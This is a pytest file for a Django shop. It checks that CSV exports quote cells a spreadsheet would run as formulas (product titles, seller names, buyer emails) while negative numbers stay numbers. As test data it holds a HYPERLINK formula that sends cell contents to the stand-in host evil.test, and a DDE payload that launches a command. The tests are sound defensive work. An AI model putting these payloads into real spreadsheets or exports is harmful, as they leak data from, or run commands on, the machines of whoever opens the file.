"""CSV cells a spreadsheet would run as formulas are neutralised in every CSV the site
writes (shop/spreadsheets.py), while numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone
from oscar.core.loading import get_model

from payments import services
from shop.api.services import CSV_NAME, open_data_export
from shop.spreadsheets import spreadsheet_cell
from tests.factories import SellerFactory, UserFactory
from tests.payments.conftest import order_awaiting_payment
from tests.sellers.helpers import order_place, product_of

Order = get_model("order", "Order")

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Xem")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Chè = ngon", "Chè = ngon"),
        ("-150000", "-150000"),  # a number written as text stays a number
        ("-12.5", "-12.5"),
        ("", ""),
        (-150000, -150000),
        (Decimal("-5"), Decimal("-5")),
        (None, None),
    ],
)
def test_only_text_that_would_run_as_a_formula_is_quoted(value, cell):
    assert spreadsheet_cell(value) == cell


def _rows(text: str):
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_open_data_csv_quotes_formula_titles_and_codes():
    seller = SellerFactory(name="+HTX Bản Liền")
    product = product_of(seller, title=FORMULA, price=250000, sku="CHE-1")
    type(product).objects.filter(pk=product.pk).update(upc="@123")

    open_data_export()

    with default_storage.open(CSV_NAME, "rb") as f:
        rows = list(csv.DictReader(io.StringIO(f.read().decode("utf-8-sig"))))
    assert rows[0]["title"] == "'" + FORMULA
    assert rows[0]["upc"] == "'@123"
    assert rows[0]["seller_name"] == "'+HTX Bản Liền"
    assert rows[0]["price_vnd"] == "250000"


def _pay(order):
    source = order.sources.get()
    order = Order.objects.select_for_update().get(pk=order.pk)
    services.order_payment_confirm(
        order=order, source=source, amount=int(order.total_incl_tax), reference="t"
    )


def test_payout_ledger_csv_quotes_seller_names_and_keeps_negative_amounts(
    django_app,
):
    seller = SellerFactory(name="=cmd|' /C calc'!A0")
    _pay(order_awaiting_payment(seller=seller, price=100000, quantity=1))
    staff = UserFactory(is_staff=True)
    services.ledger_payout_record(
        partner=seller, amount=50000, reference="-FT123", user=staff
    )

    exported = django_app.get(reverse("payments:ledger") + "?format=csv", user=staff)

    header, *rows = _rows(exported.text)  # headers in the page's language
    assert header[1] == "Người bán"
    assert {row[1] for row in rows} == {"'=cmd|' /C calc'!A0"}
    payout = next(row for row in rows if row[7] == "'-FT123")  # the reference
    assert payout[6] == "-50000"  # the amount: a number, unquoted


def test_dashboard_order_csv_and_reports_quote_buyer_text(django_app):
    seller = SellerFactory()
    product = product_of(seller, title="Chè Shan", price=150000, sku="CHE-9")
    order = order_place(items=[(product, 1)], email="=1+1@example.com")
    order.shipping_address.first_name = "@Lan"
    order.shipping_address.save()
    staff = UserFactory(is_staff=True, is_superuser=True)

    listing = django_app.get(
        reverse("dashboard:order-list") + "?response_format=csv", user=staff
    )
    _header, row = _rows(listing.text)
    assert "'=1+1@example.com" in row
    assert any(cell.startswith("'@Lan") for cell in row)

    today = timezone.localdate()
    report = django_app.get(
        reverse("dashboard:reports-index"),
        {
            "report_type": "order_report",
            "date_from": (today - datetime.timedelta(days=1)).isoformat(),
            "date_to": (today + datetime.timedelta(days=1)).isoformat(),
            "download": "true",
        },
        user=staff,
    )
    assert report["Content-Type"].startswith("text/csv")
    assert "'=1+1@example.com" in [cell for r in _rows(report.text) for cell in r]
